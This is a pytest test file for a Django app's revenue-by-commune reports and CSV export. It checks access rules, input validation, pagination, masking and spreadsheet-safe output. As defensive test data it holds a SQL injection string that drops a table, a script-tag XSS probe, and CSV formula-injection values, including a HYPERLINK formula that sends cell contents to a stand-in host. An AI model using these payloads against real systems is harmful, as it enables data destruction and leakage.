"""/bao-cao/: who may read, what an address may ask for, what the file holds."""

import csv
import io
import logging
from datetime import date
from urllib.parse import urlencode

import pytest
import time_machine

from catalog.models import Product
from frontend.csv_sheet import DigitCode, csv_sheet
from tests.shop.reports.trade import BINH_KHANH, IN_2025, deliver, divided_commune, sold_in
from tests.world import (
    CAN_GIO,
    NOW,
    PHU_QUOC,
    THANH_AN,
    commune,
    make_clerk,
    make_officer,
    make_outlet,
    make_till,
    make_user,
    make_variant,
    make_vendor,
    province,
    sell,
    sign_in,
)
from vendors.models import VendorMembership
from vendors.people.models import OfficerPost

pytestmark = pytest.mark.django_db

HOME = "/bao-cao/"
PAGE = "/bao-cao/doanh-thu-theo-xa/"
FILE = "/bao-cao/doanh-thu-theo-xa.csv"


@pytest.fixture(autouse=True)
def _today():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def officer(client):
    user = make_officer(province("79"))
    sign_in(client, user)
    return client


def producer():
    user = make_user()
    VendorMembership.objects.create(user=user, vendor=make_vendor(), role="owner")
    return user


def former_officer():
    user = make_user()
    OfficerPost.objects.create(
        user=user, unit=province("79"), valid_from=date(2025, 1, 1), valid_to=date(2026, 11, 19)
    )
    return user


def coming_officer():
    user = make_user()
    OfficerPost.objects.create(user=user, unit=province("79"), valid_from=date(2026, 11, 21))
    return user


PEOPLE = {
    "shopper": (make_user, 404),
    "producer": (producer, 404),
    "clerk": (lambda: make_clerk(make_outlet()), 404),
    "outlet manager": (lambda: make_clerk(make_outlet(), "manager"), 404),
    "officer of the commune": (lambda: make_officer(commune(THANH_AN)), 200),
    "officer of another province": (lambda: make_officer(province("91")), 200),
    "officer until yesterday": (former_officer, 404),
    "officer from tomorrow": (coming_officer, 404),
    "administrator without a post": (lambda: make_user(is_staff=True, is_superuser=True), 404),
}


@pytest.mark.parametrize("address", [HOME, PAGE, FILE, f"{PAGE}?theo=sai"])
@pytest.mark.parametrize("who", PEOPLE)
def test_only_officers_read_reports(client, who, address):
    make, status = PEOPLE[who]
    sign_in(client, make())

    wanted = 400 if status == 200 and "sai" in address else status

    assert client.get(address).status_code == wanted


@pytest.mark.parametrize("address", [HOME, PAGE, FILE, f"{PAGE}?theo=sai"])
def test_who_has_not_signed_in_is_asked_to(client, address):
    answer = client.get(address)

    assert answer.status_code == 302
    assert answer["Location"] == f"/dang-nhap/?{urlencode({'next': address}, safe='/')}"


def test_reports_are_only_read_and_never_kept_by_a_browser(officer):
    assert [officer.post(address).status_code for address in (HOME, PAGE, FILE)] == [405, 405, 405]
    assert all("no-store" in officer.get(address)["Cache-Control"] for address in (HOME, PAGE, FILE))


def test_the_officer_in_charge_reads_the_figure_and_the_other_one_does_not(client):
    sold_in(THANH_AN, producers=1, amount_vnd=123_457)
    sold_in(PHU_QUOC, producers=3)
    sold_in(CAN_GIO, producers=4)

    def page_for(unit):
        sign_in(client, make_officer(unit))
        return client.get(PAGE).content.decode()

    own, foreign = page_for(commune(THANH_AN)), page_for(commune(CAN_GIO))

    assert "123.457 ₫" in own
    assert "123.457 ₫" not in foreign
    assert "Các xã có dưới 3 chủ thể (gộp 2)" in foreign
    assert all("823.457 ₫" in page for page in (own, foreign))


def test_the_page_states_period_source_moment_and_coverage(officer):
    sold_in(THANH_AN, producers=3)

    page = officer.get(PAGE).content.decode()

    assert (
        "Năm 2026 (01/01/2026 – 31/12/2026) · Nguồn: từng dòng hàng đã ghi sổ trên Chợ OCOP · "
        "Tính đến 10:00 20/11/2026 · 1 nơi bán có phát sinh"
    ) in page
    assert "300.000 ₫" in page


def test_the_table_says_every_choice_that_narrows_its_figures(officer):
    sold_in(THANH_AN, producers=3, till=make_till(make_outlet("fair_booth")))

    page = officer.get(f"{PAGE}?theo=noi-ban&kenh=hoi-cho&ranh-gioi=hien-nay&tinh=79").content.decode()

    assert "tính theo xã nơi bán · ranh giới hiện nay · kênh Hội chợ · TP. Hồ Chí Minh" in page
    assert "Cả nước" in officer.get(PAGE).content.decode()


def test_a_report_costs_at_most_eight_statements(officer, django_assert_max_num_queries):
    for code in (THANH_AN, CAN_GIO, PHU_QUOC):
        sold_in(code, producers=3)
    officer.get(PAGE)

    with django_assert_max_num_queries(8):
        assert officer.get(f"{PAGE}?theo=nguoi-mua&ranh-gioi=hien-nay&tinh=79").status_code == 200
    with django_assert_max_num_queries(8):
        assert officer.get(PAGE).status_code == 200


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        ("ky=thang-truoc", "01/10/2026 – 31/10/2026"),
        ("ky=quy-nay", "01/10/2026 – 31/12/2026"),
        ("ky=nam-truoc", "01/01/2025 – 31/12/2025"),
        ("ky=bc-thang-truoc", "Kỳ báo cáo tháng 11/2026 (15/10/2026 – 14/11/2026)"),
        ("ky=bc-quy-nay", "Kỳ báo cáo quý 4/2026 (15/09/2026 – 14/12/2026)"),
        ("ky=bc-nam-nay", "Kỳ báo cáo năm 2026 (15/12/2025 – 14/12/2026)"),
        ("tu=2026-03-01&den=2026-03-31", "01/03/2026 – 31/03/2026"),
        ("ky=tu-den&tu=1/3/2026&den=31/03/2026", "01/03/2026 – 31/03/2026"),
        ("ky=nam-nay&tu=2026-99-99&den=", "01/01/2026 – 31/12/2026"),  # days count only for "from … to …"
        ("ky=&kenh=&tinh=&theo=&trang=", "01/01/2026 – 31/12/2026"),
        ("ky=sai&ky=thang-nay", "01/11/2026 – 30/11/2026"),
        ("la=1&xyz[]=%00", "01/01/2026 – 31/12/2026"),
    ],
)
def test_an_address_asks_for_a_period(officer, asked, words):
    answer = officer.get(f"{PAGE}?{asked}")

    assert answer.status_code == 200
    assert words in answer.content.decode()


LIST = "Mời chọn lại trong danh sách."
NO_DAY = "Ngày này không có trong lịch."
WRONG = [
    ("theo=sai", LIST),
    ("theo=%00", LIST),
    ("ky=hom-qua", LIST),
    ("kenh=online", LIST),
    ("kenh=%27%3B%20DROP%20TABLE%20reports_salefact%3B--", LIST),
    ("ranh-gioi=mai-sau", LIST),
    ("tinh=999", LIST),
    ("tinh=%EF%BC%97%EF%BC%99", LIST),
    ("tinh=02", LIST),  # Hà Giang ended on 30/06/2025
    ("tu=2026-99-99&den=2026-12-31", NO_DAY),
    ("tu=2026-02-30&den=2026-12-31", NO_DAY),
    ("tu=2026-01-01&den=%002026-12-31", NO_DAY),
    ("tu=0000-00-00&den=0001-01-01", NO_DAY),
    ("tu=%F0%9D%9F%90026-01-01&den=2026-12-31", NO_DAY),
    ("tu=%ED%A0%80&den=2026-12-31", NO_DAY),
    ("tu=" + "9" * 5000 + "&den=2026-12-31", NO_DAY),
    ("ky=tu-den", "Chọn ngày đầu kỳ."),
    ("tu=2026-05-01", "Chọn ngày cuối kỳ."),
    ("tu=2026-05-02&den=2026-05-01", "đang sau ngày cuối kỳ"),
    ("tu=1999-01-01&den=2026-05-01", "từ 01/01/2024 đến 31/12/2100"),
    ("tu=2026-05-01&den=9999-12-31", "từ 01/01/2024 đến 31/12/2100"),
    ("tu=2024-05-01&den=2031-05-01", "nhiều nhất 5 năm"),
    ("trang=1000000000", "Không có trang này."),
    ("trang=2", "báo cáo có 1 trang"),
    ("trang=-1", "Không có trang này."),
    ("trang=NaN", "Không có trang này."),
]


@pytest.mark.parametrize(("asked", "sentence"), WRONG)
def test_what_cannot_be_meant_answers_400_with_a_sentence_and_the_form(officer, asked, sentence):
    answer = officer.get(f"{PAGE}?{asked}")
    page = answer.content.decode()

    assert answer.status_code == 400
    assert sentence in page
    assert "Chưa lập được báo cáo" in page
    assert 'name="ky"' in page
    assert "\x00" not in page
    assert "<table" not in page
    if "trang" not in asked:
        assert officer.get(f"{FILE}?{asked}").status_code == 400


def test_a_wrong_form_keeps_what_was_right_and_what_was_typed(officer):
    page = officer.get(
        f"{PAGE}?kenh=hoi-cho&tinh=79&tu=31/02/2026&den=2026-12-31&theo=noi-ban"
    ).content.decode()

    assert '<option value="hoi-cho" selected>' in page
    assert '<option value="79" selected>' in page
    assert 'value="31/02/2026"' in page
    assert '<input type="hidden" name="theo" value="noi-ban">' in page


def test_what_was_typed_comes_back_as_text_not_as_markup(officer):
    page = officer.get(PAGE, {"tu": '"><script>alert(1)</script>', "den": "2026-12-31"}).content.decode()

    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;" in page


def test_fifty_rows_stand_on_a_page_and_the_foot_is_the_whole_reports(officer, monkeypatch):
    monkeypatch.setattr("frontend.views.reports.ROWS_ON_A_PAGE", 2)
    for number, code in enumerate((THANH_AN, CAN_GIO, BINH_KHANH), 1):
        sold_in(code, producers=3, amount_vnd=number * 100_000)

    first, second = (officer.get(f"{PAGE}?trang={page}").content.decode() for page in (1, 2))

    for code, on_first, on_second in (
        (BINH_KHANH, True, False),
        (CAN_GIO, True, False),
        (THANH_AN, False, True),
    ):
        assert (f'href="/xa/{code}/"' in first, f'href="/xa/{code}/"' in second) == (on_first, on_second)
    assert all("1.800.000 ₫" in page for page in (first, second))


def test_an_empty_report_says_so(officer):
    assert "Chưa có doanh thu nào trong kỳ này." in officer.get(PAGE).content.decode()


def rows_of(answer) -> list[list[str]]:
    content = answer.content.decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_the_file_holds_what_the_page_shows_with_codes_and_whole_numbers(officer, caplog):
    sold_in(THANH_AN, producers=3, amount_vnd=1_000_000_001)
    sold_in(PHU_QUOC, producers=3)

    with caplog.at_level(logging.INFO, logger="frontend.views.reports"):
        answer = officer.get(f"{FILE}?theo=xuat-xu&ky=thang-nay")
    rows = rows_of(answer)
    table = rows[rows.index([]) + 1 :]

    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == (
        'attachment; filename="doanh-thu-theo-xa_xuat-xu_2026-11-01_2026-11-30.csv"'
    )
    assert ["Kỳ", "Tháng 11/2026 (01/11/2026 – 30/11/2026)"] in rows
    assert ["Tính đến", "10:00 20/11/2026"] in rows
    assert table == [
        [
            "Xã, phường, đặc khu",
            "Mã",
            "Thuộc",
            "Số chủ thể",
            "Số dòng hàng",
            "Trong đó huỷ, trả",
            "Doanh thu",
            "Ghi chú",
        ],
        ["Xã Thạnh An", '="27676"', "TP. Hồ Chí Minh", "3", "3", "0", "3000000003", ""],
        ["Đặc khu Phú Quốc", '="31078"', "Tỉnh An Giang", "3", "3", "0", "300000", ""],
        ["Cộng", "", "", "6", "6", "0", "3000300003", ""],
    ]
    (logged,) = [record.getMessage() for record in caplog.records if "report file" in record.getMessage()]
    assert f"user={officer.session['_auth_user_id']} " in logged


def test_the_file_keeps_what_masking_keeps(client):
    sign_in(client, make_officer(commune(CAN_GIO)))
    sold_in(THANH_AN, producers=1, amount_vnd=123_457)

    rows = rows_of(client.get(FILE))

    assert ["Các xã có dưới 3 chủ thể (gộp 1)", *[""] * 7] in rows
    assert rows[-1] == ["Cộng", "", "", "1", "", "", "", ""]
    assert "123457" not in str(rows)


@pytest.mark.parametrize(
    "harmful",
    [
        '=HYPERLINK("http://x.example/?"&A1)',
        "+84912345678",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u00a0=1",
        "＝1+1",
    ],
)
def test_text_cannot_become_a_formula(harmful):
    (cell,) = next(
        csv.reader(io.StringIO(csv_sheet([[harmful]]).decode("utf-8-sig"), newline=""), delimiter=";")
    )

    assert cell == f"'{harmful}"


def test_cells_keep_their_text_whatever_it_holds():
    odd = ['Xã "M\'Drắk"; Đắk Lắk', "hai\ndòng", "", "1.250.000", "Hoà – Hòa"]

    sheet = csv_sheet([[*odd, -170_000, 0, None, DigitCode("00070")]])

    assert sheet[:3] == b"\xef\xbb\xbf"
    (row,) = csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline=""), delimiter=";")
    assert row == [*odd, "-170000", "0", "", '="00070"']


@pytest.mark.parametrize("wrong", ['0"&A1&"', "", "27 676", "２７６７６", "1" * 21])
def test_a_code_of_anything_but_digits_is_refused(wrong):
    with pytest.raises(ValueError, match="digits"):
        csv_sheet([[DigitCode(wrong)]])


def test_partial_figures_are_marked_on_the_page(client):
    old, today = divided_commune()
    sign_in(client, make_officer(today))
    honey = make_variant(make_vendor(in_commune=today.code))
    Product.objects.update(former_commune=old)
    sell(make_till(), honey, 1, sold_at=IN_2025, now=IN_2025)
    deliver()
    days = "tu=2025-01-01&den=2025-12-31"

    assert "một phần</span>" in client.get(f"{PAGE}?{days}&ranh-gioi=hien-nay").content.decode()
    assert "xã cũ</span>" in client.get(f"{PAGE}?{days}&ranh-gioi=luc-ban").content.decode()
